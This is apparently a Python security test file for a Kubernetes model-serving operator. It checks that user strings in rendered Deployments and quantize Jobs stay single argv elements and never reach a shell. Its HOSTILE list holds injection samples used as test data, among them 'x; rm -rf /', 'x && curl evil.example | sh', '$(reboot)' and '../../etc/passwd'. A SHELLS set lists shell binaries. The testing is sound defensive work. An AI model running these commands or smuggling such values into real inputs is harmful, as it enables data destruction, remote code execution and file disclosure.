"""User data never reaches a shell, and never becomes an option: the rendered serving Deployment
and quantize Job run argv lists, and every string a user wrote is one whole argument.

Two halves, both with hypothesis:

* hostile strings (shell metacharacters, command substitution, newlines, option injection such as
  ``--trust-remote-code``, Unicode look-alikes) are refused by the API models, whose patterns are
  the CRD's own (the integration fuzz test proves the API server refuses them too);
* every string the models *accept* (generated from the very patterns) renders into containers
  whose ``command``/``args`` are lists of strings, never ``sh -c``/``bash -c``, whose only inline
  program (``python3 -c``) is the builders' constant, and where the user's value is one argv
  element that does not start with ``-``.

Real builders and planner, the local cluster's pool file, a sparse Qwen3-0.6B-shaped checkpoint
written by the planner tests' modelzoo; nothing is mocked.
"""

from __future__ import annotations

import importlib.util
import json
import re
import sys
from functools import cache
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from pydantic import ValidationError

from dedicated.localcluster.pools import DEFAULT_POOLS_FILE
from dedicated.operator.api import DedicatedEndpointSpec
from dedicated.operator.api.common import HUB_REPO, HUB_REVISION, REL_PATH, SERVED_NAME
from dedicated.operator.api.quantizedmodel import QuantizedModelSpec
from dedicated.operator.builders import resolve_model
from dedicated.operator.builders.serving import VERIFY_CHECKPOINT
from dedicated.operator.images import ImageConfig
from dedicated.operator.pools import load_pools
from dedicated.operator.reconcile.endpoint import EndpointInput, ModelState, desired_objects
from dedicated.operator.reconcile.quantizedmodel import QMInput, desired_job
from dedicated.operator.vram import profile_local

REPO = Path(__file__).resolve().parents[3]
SHELLS = {"sh", "bash", "dash", "zsh", "ash", "ksh", "busybox", "env"}

HOSTILE = [
    "x; rm -rf /", "x && curl evil.example | sh", "$(reboot)", "`id`", "a|b", "a>b", "a<b", "a\nb", "a\rb", "a\tb",
    "a b", "--trust-remote-code", "-x", "x --trust-remote-code", "x=--y", "'quoted'", '"dq"', "a\\b", "a$HOME",
    "ｘ；rm", "x\u200bz", "x\x00y", "../../etc/passwd", "a*", "a?b", "{a,b}", "~root", "a#b", "a!b", "%0a",
]


@cache
def _setup():
    spec = importlib.util.spec_from_file_location("sec_modelzoo", REPO / "tests/unit/operator/modelzoo.py")
    zoo = importlib.util.module_from_spec(spec)
    sys.modules["sec_modelzoo"] = zoo
    spec.loader.exec_module(zoo)
    import tempfile

    root = Path(tempfile.mkdtemp(prefix="sec-zoo-")) / "qwen3"
    zoo.dense(root, zoo.QWEN3_06B)
    return profile_local(root), load_pools(DEFAULT_POOLS_FILE)


def _containers(pod_spec: dict) -> list[dict]:
    return [*(pod_spec.get("initContainers") or []), *pod_spec["containers"]]


def assert_no_shell(pod_spec: dict, user_values: list[str], constants: set[str] = frozenset()) -> None:
    """``constants``: the argv elements of the same manifest rendered from fixed, harmless values;
    an element containing a user value must be that whole value or one of those constants."""
    for c in _containers(pod_spec):
        command, args = c.get("command"), c.get("args", [])
        assert isinstance(command, list) and all(isinstance(a, str) for a in command), c["name"]
        assert isinstance(args, list) and all(isinstance(a, str) for a in args), c["name"]
        argv = [*command, *args]
        assert Path(argv[0]).name not in SHELLS, f"{c['name']} runs a shell: {argv[:3]}"
        for i, a in enumerate(argv):
            if a == "-c":  # an inline program: only the builders' constant may follow
                assert Path(argv[0]).name.startswith("python"), f"{c['name']}: -c for {argv[0]}"
                assert argv[i + 1] == VERIFY_CHECKPOINT, f"{c['name']}: inline program is not the constant"
        for value in user_values:
            for a in argv:
                if value in a and a not in user_values:
                    assert a in constants, f"{c['name']}: {value!r} is embedded in the argument {a!r}"
            assert not value.startswith("-")
        for env in c.get("env") or []:
            assert "value" in env or "valueFrom" in env
            if "valueFrom" in env:
                assert set(env["valueFrom"]) <= {"secretKeyRef", "fieldRef"}


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_strings_are_refused_by_the_api_models(value: str) -> None:
    base = {"volume": {"claimName": "models"}}
    attempts = {
        "servedModelName": {"model": {**base, "servedModelName": value}},
        "hub.repo": {"model": {"hub": {"repo": value}}},
        "hub.repo-in-owner": {"model": {"hub": {"repo": f"{value}/model"}}},
        "hub.revision": {"model": {"hub": {"repo": "a/b", "revision": value}}},
        "volume.path": {"model": {"volume": {"claimName": "models", "path": value}}},
        "volume.claimName": {"model": {"volume": {"claimName": value}}},
        "image": {"model": base, "image": value},
        "resources.memory": {"model": base, "resources": {"memory": value}},
        "placement.pool": {"model": base, "placement": {"pool": value}},
    }
    option_like = value.startswith("-")
    for where, raw in attempts.items():
        if option_like and where == "volume.path":
            continue  # a directory may be named "-x": it only ever becomes a mount's subPath (tested below)
        with pytest.raises(ValidationError):
            DedicatedEndpointSpec.model_validate(raw)
            pytest.fail(f"{where}={value!r} was accepted")
    qm = {"base": {"hub": {"repo": "a/b"}}, "method": "autoround", "bits": 4,
          "output": {"volume": {"claimName": "out"}}}
    for where, patch in {"modules.quantize": {"modules": {"quantize": [value]}},
                         "base.hub.repo": {"base": {"hub": {"repo": value}}},
                         "output.volume.path": {"output": {"volume": {"claimName": "out", "path": value}}}}.items():
        if where == "modules.quantize" and not re.search(r"\s", value) and value:
            continue
        if where == "output.volume.path" and option_like:
            continue  # module regexes are data for Python's re in the Job, never argv: any non-blank is fine
        with pytest.raises(ValidationError):
            QuantizedModelSpec.model_validate({**qm, **patch})
            pytest.fail(f"{where}={value!r} was accepted")


def _pattern(p: str, max_size: int) -> st.SearchStrategy[str]:
    return st.from_regex(p, fullmatch=True).filter(lambda s: 0 < len(s) <= max_size and ".." not in s and "--" not in s)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(repo=_pattern(HUB_REPO, 96), revision=st.none() | _pattern(HUB_REVISION, 64),
       served=st.none() | _pattern(SERVED_NAME, 128), token=st.booleans())
def test_hub_endpoint_renders_argv_lists_only(repo: str, revision: str | None, served: str | None, token: bool) -> None:
    profile, pools = _setup()
    hub = {"repo": repo, **({"revision": revision} if revision else {}),
           **({"tokenSecretRef": {"name": "hf", "key": "token"}} if token else {})}

    def render(repo: str, revision: str | None, served: str | None) -> dict:
        hub = {"repo": repo, **({"revision": revision} if revision else {}),
               **({"tokenSecretRef": {"name": "hf", "key": "token"}} if token else {})}
        spec = DedicatedEndpointSpec.model_validate(
            {"model": {"hub": hub, **({"servedModelName": served} if served else {})}})
        resolved = resolve_model(spec.model, endpoint_name="ep", checkpoint_bytes=profile.parts.total)
        inp = EndpointInput(name="ep", namespace="ns", uid="u", generation=1, spec=spec, status=None,
                            model=ModelState(repo, profile, resolved), pools=pools, images=ImageConfig())
        desired = desired_objects(inp)
        assert desired.objects, desired.failure
        return desired.objects[0]

    baseline = render("base-org/base-model", "main" if revision else None, "served-x" if served else None)
    constants = {a for c in _containers(baseline["spec"]["template"]["spec"]) for a in [*c["command"], *c["args"]]}
    dep = render(repo, revision, served)
    values = [v for v in (repo, revision, served) if v]
    assert_no_shell(dep["spec"]["template"]["spec"], values, constants)
    argv = [*dep["spec"]["template"]["spec"]["initContainers"][0]["command"],
            *dep["spec"]["template"]["spec"]["initContainers"][0]["args"]]
    assert repo in argv and (revision is None or argv[argv.index("--revision") + 1] == revision)
    vllm = dep["spec"]["template"]["spec"]["containers"][0]
    assert vllm["args"][vllm["args"].index("--served-model-name") + 1] == (served or repo)
    env = json.dumps(dep)
    assert "trust-remote-code" not in env


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(path=_pattern(REL_PATH, 200), served=st.none() | _pattern(SERVED_NAME, 128))
def test_volume_endpoint_renders_argv_lists_only(path: str, served: str | None) -> None:
    profile, pools = _setup()

    def render(path: str, served: str | None) -> dict:
        spec = DedicatedEndpointSpec.model_validate(
            {"model": {"volume": {"claimName": "models", "path": path},
                       **({"servedModelName": served} if served else {})}})
        resolved = resolve_model(spec.model, endpoint_name="ep", checkpoint_bytes=profile.parts.total)
        inp = EndpointInput(name="ep", namespace="ns", uid="u", generation=1, spec=spec, status=None,
                            model=ModelState(path, profile, resolved), pools=pools, images=ImageConfig())
        return desired_objects(inp).objects[0]["spec"]["template"]["spec"]

    base = render("base/dir", "served-x" if served else None)
    pod = render(path, served)
    argv_of = lambda p: [[*c["command"], *c.get("args", [])] for c in _containers(p)]  # noqa: E731
    constants = {a for argv in argv_of(base) for a in argv}
    assert_no_shell(pod, [v for v in (served,) if v], constants)
    # the volume path reaches the pod only as a mount's subPath, never as an argument: the argv
    # is the same whatever the path
    assert argv_of(pod) == argv_of(render("other/dir", served))
    mounts = [m for c in _containers(pod) for m in c.get("volumeMounts") or [] if m["name"] == "weights"]
    assert mounts and all(m.get("subPath") == path for m in mounts)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(repo=_pattern(HUB_REPO, 96), module=st.text(min_size=1, max_size=40).filter(lambda s: not re.search(r"\s", s)),
       out=_pattern(REL_PATH, 100))
def test_quantize_job_runs_a_constant_argv(repo: str, module: str, out: str) -> None:
    """Everything user-written goes into the Job's JSON config file (a ConfigMap), never argv."""
    _, pools = _setup()
    spec = QuantizedModelSpec.model_validate({
        "base": {"hub": {"repo": repo, "tokenSecretRef": {"name": "hf"}}}, "method": "autoround", "bits": 4,
        "modules": {"quantize": [module]}, "output": {"volume": {"claimName": "out", "path": out}},
        "resources": {"pool": "hopper-h100", "gpus": 1}})
    desired = desired_job(QMInput(name="qm", namespace="ns", uid="u", generation=1, spec=spec, status=None,
                                  pools=pools, images=ImageConfig()))
    try:
        re.compile(module)
    except re.error:
        # not a regular expression: the CRD's pattern (non-blank) lets it through, the Job config
        # refuses it, and the model gets a clear InvalidSpec condition instead of a Job
        assert desired.objects is None and desired.blocked[0] == "InvalidSpec", desired
        assert "modules" in desired.blocked[1].lower() or "quantize" in desired.blocked[1], desired.blocked
        return
    assert desired.objects is not None, desired.blocked
    job = desired.objects.job
    pod = job["spec"]["template"]["spec"]
    assert_no_shell(pod, [])
    c = pod["containers"][0]
    assert [*c["command"], *c["args"]] == ["python", "-m", "dedicated.quantize_job", "run", "--config",
                                           "/etc/dedicated/job/config.json"]
    config = json.loads(desired.objects.configmap["data"]["config.json"])

    def strings(x):  # every string in the config, recursively
        if isinstance(x, dict):
            return [s for v in x.values() for s in strings(v)]
        if isinstance(x, list):
            return [s for v in x for s in strings(v)]
        return [x] if isinstance(x, str) else []

    assert repo in strings(config) and module in strings(config)
